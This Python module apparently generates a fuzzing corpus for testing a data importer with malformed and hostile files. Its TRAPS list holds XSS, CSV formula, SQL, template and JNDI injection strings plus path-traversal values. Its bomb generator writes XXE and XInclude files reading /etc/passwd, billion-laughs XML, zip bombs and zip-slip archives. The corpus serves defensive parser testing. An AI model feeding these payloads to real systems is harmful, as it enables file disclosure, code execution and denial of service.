"""A corpus of files that are broken, hostile or merely odd, drawn from a seed: the same each time.

Every file begins with what a city would send and is then harmed in one way; `HARMS` says how.
"""

import gzip
import io
import json
import random
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import openpyxl
import orjson

TRAPS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</title><svg/onload=alert(1)>",
    *("<!--", "]]>", "javascript:alert(1)", "&lt;script&gt;", "&#0;", "&#x110000;"),
    '=HYPERLINK("http://203.0.113.1","领取补贴")',
    *("+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"),
    *("../../../../etc/passwd", "C:\\Windows\\win.ini", "file:///etc/passwd"),
    *("\u202e反转\u202c", "\u200b\u200c\u2060零宽", "\ufeff", "\x00\x01\x1f\x7f"),
    *("\ud800", "\udfff\ud800", "𠀀" * 50, "a\u0300" * 300),
    *("%00%0d%0aX: y", "a\r\nSet-Cookie: x=1", "{{7*7}}", "{% include '/etc/passwd' %}"),
    *("${jndi:ldap://203.0.113.1/}", "' OR 1=1 --", "*" * 300, "NaN", "1e999"),
    *("２０２０年１３月４５日", "〇〇〇〇年", "号" * 400, "〔〔〔", "<mark>假的</mark>"),
    *("\n" * 500, " ", ""),
)
VALUES: tuple[object, ...] = (
    *TRAPS,
    *(None, True, -1, 0, 10**30, 1e308),
    *([], {}, [[[]]], [None, 1, "甲"], {"甲": {"乙": ["丙"]}}),
    *("9999-99-99", "0000-00-00", "2020-02-30", "20200229", "主动公开", "不公开", "长" * 5000),
)
HEADINGS = (
    *("id", "标题", "发布机构", "发布日期", "公开属性", "正文", "文号", "主题分类"),
    *("附件", "链接", "索引号", "体裁", "有效性", "关键词", "生成日期"),
)
Harm = Callable[[bytes, random.Random], bytes]


def make_rows(chance: random.Random, count: int = 3) -> list[dict[str, object]]:
    """Rows of which each has one to four values that nobody expects."""
    rows: list[dict[str, object]] = []
    for _ in range(count):
        number = chance.randrange(10**9)
        row: dict[str, object] = {
            "id": f"h{number}",
            "标题": f"关于第{number}号防汛工作的通知",
            "发布机构": "安庆市水利局",
            "发布日期": "2020-05-06",
            "公开属性": "主动公开",
            "正文": "各单位要落实防汛责任。",
            "附件": [{"name": "附件1.docx", "url": "a.docx"}],
        }
        for heading in chance.sample(HEADINGS, chance.randint(1, 4)):
            row[heading] = chance.choice(VALUES)
        rows.append(row)
    return rows


def truncate(content: bytes, chance: random.Random) -> bytes:
    return content[: chance.randrange(len(content) + 1)]


def flip(content: bytes, chance: random.Random) -> bytes:
    harmed = bytearray(content)
    for _ in range(chance.randint(1, 20)):
        harmed[chance.randrange(len(harmed))] = chance.randrange(256)
    return bytes(harmed)


def add_nuls(content: bytes, chance: random.Random) -> bytes:
    at = chance.randrange(len(content) + 1)
    return content[:at] + bytes(chance.choice((1, 7, 4096))) + content[at:]


def recode(content: bytes, chance: random.Random) -> bytes:
    """Another encoding than any that is read, or half of one."""
    text = content.decode("utf-8", "replace")
    name = chance.choice(("utf-16", "utf-16-be", "utf-32", "big5", "shift_jis", "utf-7", "gb18030"))
    recoded = text.encode(name, "replace")
    return recoded[1:] if chance.random() < 0.3 else recoded


def repeat(content: bytes, chance: random.Random) -> bytes:
    """A piece of itself, again and again, in the middle."""
    start = chance.randrange(len(content))
    piece = content[start : start + chance.randint(1, 40)]
    at = chance.randrange(len(content))
    return content[:at] + piece * chance.randint(2, 2000) + content[at:]


def shuffle(content: bytes, chance: random.Random) -> bytes:
    """Its lines in another order, some of them missing."""
    lines = content.splitlines(keepends=True)
    return b"".join(chance.sample(lines, chance.randint(0, len(lines))))


def add_noise(content: bytes, chance: random.Random) -> bytes:
    return chance.choice((b"", content)) + chance.randbytes(chance.randint(1, 5000))


def leave(content: bytes, _chance: random.Random) -> bytes:
    """Nothing: the rows are odd enough."""
    return content


HARMS: tuple[Harm, ...] = (
    leave, leave, truncate, flip, add_nuls, recode, repeat, shuffle, add_noise,
)  # fmt: skip
SUFFIXES = (".jsonl", ".json", ".csv", ".tsv", ".xlsx", ".xml", ".html", ".jsonl.gz")


def write_corpus(folder: Path, count: int, seed: int = 20080501) -> Iterator[Path]:
    """So many files, each with another harm, and then the bombs."""
    for number in range(count):
        chance = random.Random(f"{seed} {number}")
        suffix = SUFFIXES[number % len(SUFFIXES)]
        content = _render(make_rows(chance), suffix.removesuffix(".gz"), chance)
        harm = HARMS[number // len(SUFFIXES) % len(HARMS)]
        if suffix.endswith(".gz"):
            packed_last = chance.random() < 0.5
            content = (
                gzip.compress(harm(content, chance), mtime=0) if packed_last
                else harm(gzip.compress(content, mtime=0), chance)
            )  # fmt: skip
        else:
            content = harm(content, chance)
        # Now and then a file says it is something else.
        named = chance.choice(SUFFIXES) if chance.random() < 0.1 else suffix
        path = folder / f"{number:05}{named}"
        path.write_bytes(content)
        yield path
    for name, content in _bombs():
        path = folder / name
        path.write_bytes(content)
        yield path


def _render(rows: list[dict[str, object]], suffix: str, chance: random.Random) -> bytes:
    if suffix == ".jsonl":
        return b"".join(_to_json(row) + b"\n" for row in rows)
    if suffix == ".json":
        return b"[" + b",".join(map(_to_json, rows)) + b"]"
    headings = sorted({heading for row in rows for heading in row})
    cells = [[_to_text(row.get(heading)) for heading in headings] for row in rows]
    if suffix in {".csv", ".tsv"}:
        cut = "," if suffix == ".csv" else "\t"
        lines = [cut.join(headings), *(cut.join(map(_quote, row)) for row in cells)]
        return "\r\n".join(lines).encode("utf-8", "surrogatepass")
    if suffix == ".xlsx":
        return _workbook([headings, *cells])
    if suffix == ".xml":
        fields = (
            "".join(f"<{h}>{v}</{h}>" for h, v in zip(headings, row, strict=True)) for row in cells
        )
        body = "".join(f"<row>{each}</row>" for each in fields)
        return f"<?xml version='1.0'?><rows>{body}</rows>".encode("utf-8", "surrogatepass")
    pairs = "".join(
        f"<tr><th>{h}</th><td>{v}</td></tr>" for h, v in zip(headings, cells[0], strict=True)
    )
    ends = chance.choice(("</table>", "</table></body></html>", ""))
    return f"<html><body><table>{pairs}{ends}".encode("utf-8", "surrogatepass")


def _to_json(row: dict[str, object]) -> bytes:
    # Not orjson: it writes no lone surrogates and no numbers beyond 64 bits, others do.
    return json.dumps(row, ensure_ascii=len(row) % 2 == 0).encode("utf-8", "surrogatepass")


def _to_text(value: object) -> str:
    return "" if value is None else str(value)


def _quote(cell: str) -> str:
    return f'"{cell}"' if len(cell) % 3 else cell


def _workbook(rows: list[list[str]]) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.worksheets[0]
    for row in rows:
        sheet.append([_legal(cell) for cell in row])
    content = io.BytesIO()
    book.save(content)
    return content.getvalue()


def _legal(cell: str) -> str:
    """What a workbook can hold at all."""
    return "".join(
        each for each in cell[:32_000] if each >= " " and not "\ud800" <= each <= "\udfff"
    )


def _bombs() -> Iterator[tuple[str, bytes]]:
    """What is small and becomes large, what never ends, what reaches out."""
    row = orjson.dumps({"标题": "通知", "正文": "字" * 100})
    yield "line.jsonl", b'{"title": "' + b"a" * 100_000_000 + b'"}\n' + row + b"\n"
    yield "line.csv", b"title,body\n" + b"a" * 40_000_000 + b"\nb,c\n"
    yield "zeros.jsonl.gz", gzip.compress(bytes(200_000_000), 1)
    yield "deep.jsonl", b"[" * 200_000 + b"\n" + b'{"a":' * 100_000 + b"\n"
    yield "deep.json", b"[" * 1_000_000
    yield "deep.html", b"<div>" * 300_000
    yield "deep.xml", b"<a>" * 300_000
    nested = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    laughs = f'<!DOCTYPE r [<!ENTITY l0 "ha">{nested}]><r><标题>&l11;</标题></r>'
    yield "laughs.xml", laughs.encode()
    outside = '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r><标题>&x;</标题></r>'
    yield "outside.xml", outside.encode()
    asked = '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://127.0.0.1:9/x.dtd"> %p;]><r/>'
    yield "asked.xml", asked.encode()
    include = "<r xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='/etc/passwd'/></r>"
    yield "include.xml", include.encode()
    for place, inner in enumerate((bytes(300_000_000), b"<row><c><v>1</v></c></row>" * 4_000_000)):
        yield f"bomb{place}.xlsx", _pack({"xl/worksheets/sheet1.xml": inner}, whole=place == 1)
    yield "paths.xlsx", _pack({"../../../../tmp/gongkai-was-here": b"x", "/etc/x": b"y"})
    yield "nested.xlsx", _pack({"xl/workbook.xml": _pack({"a": bytes(50_000_000)})})
    yield "empty.xlsx", b"PK\x05\x06" + bytes(18)
    yield "quote.csv", '标题,发布机构\n"'.encode() + "从未结束\n".encode() * 300_000
    yield "columns.csv", b",".join(b"c%d" % n for n in range(200_000)) + b"\n" + b"1," * 200_000
    yield "attributes.html", b"<p " + b"a=1 " * 500_000 + b">"
    yield "entities.html", b"&lt;" * 2_000_000


def _pack(files: dict[str, bytes], *, whole: bool = False) -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as packed:
        if whole:
            with zipfile.ZipFile(io.BytesIO(_workbook([["标题", "发布机构"]]))) as book:
                for name in book.namelist():
                    if name not in files:
                        packed.writestr(name, book.read(name))
        for name, inner in files.items():
            packed.writestr(name, inner)
    return content.getvalue()
